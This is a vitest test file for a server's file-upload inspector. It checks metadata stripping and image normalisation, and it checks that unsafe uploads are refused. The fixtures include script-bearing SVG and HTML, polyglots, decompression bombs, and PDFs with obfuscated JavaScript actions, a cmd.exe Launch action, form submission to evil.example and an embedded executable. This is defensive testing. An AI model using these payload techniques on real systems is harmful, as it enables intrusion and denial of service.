import sharp from 'sharp'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { AppError } from '#server/errors.ts'
import { inspectBytes } from '#server/files/inspect.ts'
import { aHugePng, aMovingWebp, aPhonePhoto, halves, isLeft } from './picture-samples.ts'
import { anObjectStream, aPdf, scriptAction, type PdfParts } from './pdf-samples.ts'

async function refusal(bytes: Buffer): Promise<string> {
  try {
    const { mediaType } = await inspectBytes(bytes)
    return `stored as ${mediaType}`
  } catch (error) {
    if (error instanceof AppError) return error.code
    throw error
  }
}

describe('a picture that was sent', () => {
  it('is stored without place, camera or any other metadata', async () => {
    const sent = await aPhonePhoto()
    expect((await sharp(sent).metadata()).exif).toBeDefined()
    const { bytes, mediaType } = await inspectBytes(sent)
    const { exif, xmp, iptc } = await sharp(bytes).metadata()
    expect({ mediaType, exif, xmp, iptc }).toEqual({ mediaType: 'image/jpeg', exif: undefined, xmp: undefined, iptc: undefined })
    expect(bytes.includes('Secret-7')).toBe(false)
    expect(bytes.includes('GPS')).toBe(false)
  })

  it('is stored upright when the phone only noted how it was held', async () => {
    const { bytes, width, height } = await inspectBytes(await aPhonePhoto(6))
    expect([width, height]).toEqual([200, 400])
    const top = await sharp(bytes).raw().toBuffer()
    expect(isLeft(top, 'red')).toBe(true)
    expect(isLeft(top.subarray(-3), 'blue')).toBe(true)
    expect((await sharp(bytes).metadata()).orientation).toBeUndefined()
  })

  it.each(['jpeg', 'png'] as const)('stays %s', async (format) => {
    const { mediaType, width, height, pages } = await inspectBytes(await halves().toFormat(format).toBuffer())
    expect({ mediaType, width, height, pages }).toEqual({ mediaType: `image/${format}`, width: 400, height: 200, pages: 1 })
  })

  it('becomes JPEG from WebP, on white where it was transparent', async () => {
    const clear = await sharp({ create: { width: 40, height: 40, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } }).webp().toBuffer()
    const { bytes, mediaType } = await inspectBytes(clear)
    expect(mediaType).toBe('image/jpeg')
    expect((await sharp(bytes).raw().toBuffer())[0]).toBeGreaterThan(250)
  })

  it('becomes sRGB with 8 bits from the CMYK of a print shop and the 16 bits of a scanner', async () => {
    const cmyk = await inspectBytes(await halves().toColourspace('cmyk').jpeg().toBuffer())
    const deep = await inspectBytes(await halves().toColourspace('rgb16').png().toBuffer())
    for (const { bytes } of [cmyk, deep]) {
      const { space, depth, channels } = await sharp(bytes).metadata()
      expect({ space, depth, channels }).toEqual({ space: 'srgb', depth: 'uchar', channels: 3 })
    }
    expect(isLeft(await sharp(cmyk.bytes).raw().toBuffer(), 'red')).toBe(true)
  })

  it('loses whatever hung behind it', async () => {
    const { bytes } = await inspectBytes(Buffer.concat([await aPhonePhoto(), Buffer.from('PK\x03\x04<script>alert(1)</script>')]))
    expect(bytes.includes('script')).toBe(false)
    expect(bytes.includes('PK\x03\x04')).toBe(false)
  })

  it('is refused when unpacking it would fill the memory', async () => {
    const bomb = aHugePng(17_000)
    expect(bomb.length).toBeLessThan(1_000_000)
    expect(await refusal(bomb)).toBe('files.too-many-pixels')
  })

  it.each([0.1, 0.5, 0.9])('is refused when only %d of it arrived', async (share) => {
    const whole = await sharp(await halves(800, 600).blur(3).raw().toBuffer(), { raw: { width: 800, height: 600, channels: 3 } }).jpeg({ quality: 100 }).toBuffer()
    expect(await refusal(whole.subarray(0, Math.floor(whole.length * share)))).toBe('files.damaged')
  })

  it('is refused when it moves', async () => {
    expect(await refusal(await aMovingWebp())).toBe('files.wrong-type')
  })
})

describe('a file that is not what it says', () => {
  it.each([
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['an SVG with an XML head', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a web page', Buffer.from('<!doctype html><html><script>alert(1)</script></html>')],
    ['the antivirus test file', Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;', 'latin1')],
    ['a ZIP archive', Buffer.from('PK\x03\x04\x14\x00\x00\x00\x00\x00' + '\0'.repeat(40), 'latin1')],
    ['a HEIC photo', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic' + '\0'.repeat(40), 'latin1')],
    ['a web page with a PDF behind it', Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), aPdf()])],
    ['a ZIP archive with a PDF behind it', Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x00\x00' + '\0'.repeat(40), 'latin1'), aPdf()])],
  ])('is refused: %s', async (_, bytes) => {
    expect(await refusal(bytes)).toBe('files.wrong-type')
  })

  it('is refused when it is empty, as a second WeChat on one phone sends it', async () => {
    expect(await refusal(Buffer.alloc(0))).toBe('files.empty')
  })

  it('is refused when it is larger than was said', async () => {
    expect(await refusal(Buffer.alloc(10 * 1024 * 1024 + 1))).toBe('files.too-large')
  })
})

describe('a PDF that was sent', () => {
  it('is stored byte for byte, with its number of pages', async () => {
    const sent = aPdf({ pages: 2 })
    const { bytes, mediaType, pages } = await inspectBytes(sent)
    expect({ mediaType, pages, same: bytes.equals(sent) }).toEqual({ mediaType: 'application/pdf', pages: 2, same: true })
  })

  it('may have links, an opening page, a form that is only filled in, compressed objects and a font called AA', async () => {
    const harmless = aPdf({
      catalog: '/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >>',
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.cn/Web/JavaScript /JS) >> >>] /Resources << /Font << /AA 4 0 R /JS 4 0 R >> >>',
      extra: ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', anObjectStream(90, ['<< /S /GoTo /D [3 0 R /Fit] >>', '(/JavaScript in a text)'])],
    })
    expect(await refusal(harmless)).toBe('stored as application/pdf')
  })

  const acting: [string, PdfParts][] = [
    ['a script when it opens', { catalog: `/OpenAction ${scriptAction}` }],
    ['a script with an escaped name', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }],
    ['a script behind a reference', { catalog: '/OpenAction 4 0 R', extra: ['<< /S 5 0 R /JS 6 0 R >>', '/JavaScript', '(x)'] }],
    ['a script among its names', { catalog: `/Names << /JavaScript << /Names [(a) ${scriptAction}] >> >>` }],
    ['a script in a compressed object', { extra: [anObjectStream(90, ['<< >>', scriptAction])] }],
    ['a script in an object stream that is not compressed', { extra: [anObjectStream(90, [scriptAction], '')] }],
    ['a script in an object stream whose type is escaped', { extra: [anObjectStream(90, [scriptAction]).replace('/ObjStm', '/Obj#53tm')] }],
    ['a script in an object inside a comment', { extra: [`<< >> % 77 0 obj ${scriptAction} endobj\n`] }],
    ['a script in an object inside a text', { extra: [`(77 0 obj ${scriptAction} endobj)`] }],
    ['a script in an object inside a plain stream', { extra: [`<< /Length 60 >>\nstream\n77 0 obj ${scriptAction} endobj\nendstream`] }],
    ['a script under the second of two equal keys', { catalog: `/OpenAction [3 0 R /Fit] /OpenAction ${scriptAction}` }],
    ['an action of its page', { page: '/AA << /O << /S /Named /N /Print >> >>' }],
    ['a program to start', { page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]' }],
    ['an address to open by itself', { catalog: '/OpenAction << /S /URI /URI (http://evil.example/) >>' }],
    ['a form that sends itself', { page: '/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example/) >> >>]' }],
    ['an attached file', { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', extra: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }],
    ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', extra: ['<< /Length 2 >>\nstream\n<x\nendstream'] }],
    ['a film', { page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }],
  ]
  it.each(acting)('is refused with %s', async (_, parts) => {
    expect(await refusal(aPdf(parts))).toBe('files.active-content')
  })

  it('is refused when it is locked with a password', async () => {
    const lock = `/Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4`
    expect(await refusal(aPdf({ trailer: `/Encrypt << ${lock} >> /ID [<00> <00>]` }))).toBe('files.encrypted')
  })

  it.each([
    ['half of it', aPdf({ pages: 3 }).subarray(0, 300)],
    ['all but its end', aPdf({ pages: 3 }).subarray(0, -30)],
    ['something in front', Buffer.concat([Buffer.from('\n'), aPdf()])],
    ['a web page behind', Buffer.concat([aPdf(), Buffer.from('<html><script>alert(1)</script>')])],
    ['an archive behind', Buffer.concat([aPdf(), Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')])],
    ['no objects', Buffer.from('%PDF-1.4\n%%EOF')],
    ['an object stream packed in a way that cannot be examined', aPdf({ extra: [anObjectStream(90, [scriptAction], '/LZWDecode')] })],
    ['an object stream that unpacks without end', aPdf({ extra: [`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\n${deflateSync(Buffer.alloc(80 * 1024 * 1024)).toString('latin1')}\nendstream`] })],
    ['values nested thousands deep', aPdf({ extra: ['['.repeat(5000) + ']'.repeat(5000), anObjectStream(90, ['['.repeat(5000)])], catalog: '/X 4 0 R'.repeat(2) }).subarray(0, -8)],
  ])('is refused as damaged with %s', async (_, bytes) => {
    expect(['files.damaged', 'files.wrong-type']).toContain(await refusal(bytes))
  })

  it('is refused with more pages than a person would read', async () => {
    expect(await refusal(aPdf({ pages: 201 }))).toBe('files.too-large')
    expect(await refusal(aPdf({ pages: 200 }))).toBe('stored as application/pdf')
  })

  it('cannot keep the server busy: the reader gives up and the loop stays free', async () => {
    const greedy = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj ('.repeat(1_000_000)), Buffer.from('\n%%EOF\n')])
    let longestMs = 0
    let last = performance.now()
    const tick = setInterval(() => {
      longestMs = Math.max(longestMs, performance.now() - last)
      last = performance.now()
    }, 5)
    expect(await refusal(greedy)).toBe('files.damaged')
    clearInterval(tick)
    expect(longestMs).toBeLessThan(1000)
  }, 30_000)
})
